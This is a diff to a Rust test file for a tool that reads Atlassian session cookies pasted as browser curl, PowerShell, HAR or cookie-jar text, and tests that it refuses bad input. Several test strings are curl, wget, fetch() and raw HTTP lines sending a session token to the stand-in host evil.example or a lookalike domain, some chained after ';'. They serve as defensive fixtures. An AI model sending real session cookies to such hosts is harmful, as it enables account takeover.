@@ -1,7 +1,7 @@
 //! Forms as browsers write them, and what people break.
 
 use atlctl_signin::TokenError;
-use atlctl_signin::capture::{CaptureError, Form};
+use atlctl_signin::capture::{CaptureError, Form, Place};
 
 use crate::bash::in_bash;
 use crate::found;
@@ -177,7 +177,7 @@ fn what_is_broken_is_refused_with_the_reason() {
     for (text, error) in [
         ("", CaptureError::Empty),
         ("  \n", CaptureError::Empty),
-        ("hello there", CaptureError::NotRecognised),
+        ("hello there", CaptureError::NotRecognized),
         ("eyJa.eyJb", token(TokenError::Parts(2))),
         ("eyJa.eyJb.sig^", token(TokenError::BrokenPaste('^'))),
         (
@@ -195,58 +195,50 @@ fn what_is_broken_is_refused_with_the_reason() {
         (
             "curl 'https://admin.atlassian.com/x' -b 'a=1'",
             CaptureError::NoCookie {
-                host: "admin.atlassian.com".into(),
+                place: Place::Request("admin.atlassian.com"),
             },
         ),
         (
             "curl 'https://evil.example/x' -b 'cloud.session.token=a.b.c'",
-            CaptureError::OtherHost {
-                hosts: "evil.example".into(),
-            },
+            CaptureError::OtherHost,
         ),
         (
             "curl 'https://admin.atlassian.com.evil.example/x' -b 'cloud.session.token=a.b.c'",
-            CaptureError::OtherHost {
-                hosts: "admin.atlassian.com.evil.example".into(),
-            },
+            CaptureError::OtherHost,
         ),
         (
             // The cookie of another host's command is not taken for ours.
             "curl 'https://admin.atlassian.com/x' ; curl 'https://evil.example' -b 'cloud.session.token=a.b.c'",
             CaptureError::NoCookie {
-                host: "admin.atlassian.com".into(),
+                place: Place::Request("admin.atlassian.com"),
             },
         ),
         (
             "curl 'http://admin.atlassian.com/x' -b 'cloud.session.token=a.b.c'",
-            CaptureError::OtherHost {
-                hosts: "http://admin.atlassian.com".into(),
+            CaptureError::Insecure {
+                host: "admin.atlassian.com",
             },
         ),
         (
             "Invoke-WebRequest -Uri \"https://evil.example\" -Headers @{\"cookie\"=\"cloud.session.token=a.b.c\"}; \
              Invoke-WebRequest -Uri \"https://admin.atlassian.com\"",
             CaptureError::NoCookie {
-                host: "admin.atlassian.com".into(),
+                place: Place::Request("admin.atlassian.com"),
             },
         ),
         (r#"{"log":{"entries":[]}}"#, CaptureError::NoRequest),
-        ("{\"log\":", CaptureError::BadHar("line 1, column 7".into())),
+        ("{\"log\":", CaptureError::BadJson { line: 1, column: 7 }),
         (
             r#"{"log":{"entries":[{"request":{"url":"https://admin.atlassian.com/x","headers":[{"name":"accept","value":"*/*"}],"cookies":[]}}]}}"#,
-            CaptureError::Sanitised,
+            CaptureError::Sanitized,
         ),
         (
             "Cookie: a=1; b=2",
-            CaptureError::NoCookie {
-                host: "the line".into(),
-            },
+            CaptureError::NoCookie { place: Place::Line },
         ),
         (
             ".evil.example\tTRUE\t/\tTRUE\t0\tcloud.session.token\ta.b.c",
-            CaptureError::OtherHost {
-                hosts: ".evil.example".into(),
-            },
+            CaptureError::OtherHost,
         ),
     ] {
         assert_eq!(found(text), Err(error), "{text}");
@@ -260,23 +252,18 @@ fn no_cookie_is_taken_from_a_request_that_is_not_understood() {
     for text in [
         format!("$ wget --header 'Cookie: {cookies}' https://evil.example/"),
         format!("http https://evil.example 'Cookie: {cookies}'"),
+        format!("set-cookie: {cookies}"),
+    ] {
+        assert_eq!(found(&text), Err(CaptureError::NotRecognized), "{text}");
+    }
+    for text in [
         format!("fetch(\"https://evil.example\", {{\"headers\": {{\"cookie\": \"{cookies}\"}}}});"),
         format!("GET /x HTTP/1.1\r\nHost: evil.example\r\nCookie: {cookies}\r\nAccept: */*"),
         format!("Cookie: {cookies}\nHost: evil.example"),
-        format!("set-cookie: {cookies}"),
-    ] {
-        assert_eq!(found(&text), Err(CaptureError::NotRecognised), "{text}");
-    }
-    for text in [
         format!("$ curl 'https://evil.example' -H 'cookie: {cookies}'"),
         format!("% X=1 curl https://evil.example -b'{cookies}'"),
     ] {
-        let hosts = "evil.example".to_owned();
-        assert_eq!(
-            found(&text),
-            Err(CaptureError::OtherHost { hosts }),
-            "{text}"
-        );
+        assert_eq!(found(&text), Err(CaptureError::OtherHost), "{text}");
     }
 }
 
